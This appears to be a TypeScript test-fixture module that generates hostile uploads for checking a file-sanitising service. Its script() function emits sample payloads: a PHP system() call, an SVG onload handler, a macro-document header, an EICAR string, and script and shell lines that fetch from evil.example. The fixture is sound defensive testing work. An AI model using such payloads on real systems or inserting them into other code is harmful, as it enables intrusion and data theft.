import type { Chance } from '../random.ts'

/** A file that somebody might hand in, and what must become of it. */
export interface Hostile {
  readonly what: string
  readonly bytes: Buffer
  /** Refused, with one of these reasons; shown, with only pixels left; or either, but never anything else. */
  readonly must: readonly string[] | 'be-shown' | 'be-either'
  /** Bytes that lie in the file and must never come out of it. */
  readonly planted?: readonly Buffer[]
  /** What is asked for beside the bytes, where that is what is hostile. */
  readonly asked?: { readonly kind?: string; readonly upload?: string }
}

export type Making = (chance: Chance) => Promise<Hostile> | Hostile

const LETTERS = 'abcdefghijklmnopqrstuvwxyz0123456789'

/** A word that occurs nowhere else. */
export const word = (chance: Chance, length = 24): string => Array.from({ length }, () => LETTERS[chance.under(LETTERS.length)]).join('')

export const noise = (chance: Chance, length: number): Buffer => Buffer.from(Array.from({ length }, () => chance.under(256)))

/** The test file that every virus scanner knows, in two halves, so that none of them finds it here. */
export const EICAR = `X5O!P%@AP[4\\PZX54(P^)7CC)7}${'$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'}`

/** Things that some program would run, each with a word of its own. */
export function script(chance: Chance): Buffer {
  const secret = word(chance)
  return Buffer.from(
    chance.of([
      `<?php system("${secret}"); ?>`,
      `<script>fetch("https://evil.example/${secret}")</script>`,
      `<svg onload="alert('${secret}')"/>`,
      `#!/bin/sh\ncurl https://evil.example/${secret}\n`,
      `PK\x03\x04${secret}word/vbaProject.bin`,
      `${EICAR}${secret}`,
    ]),
  )
}
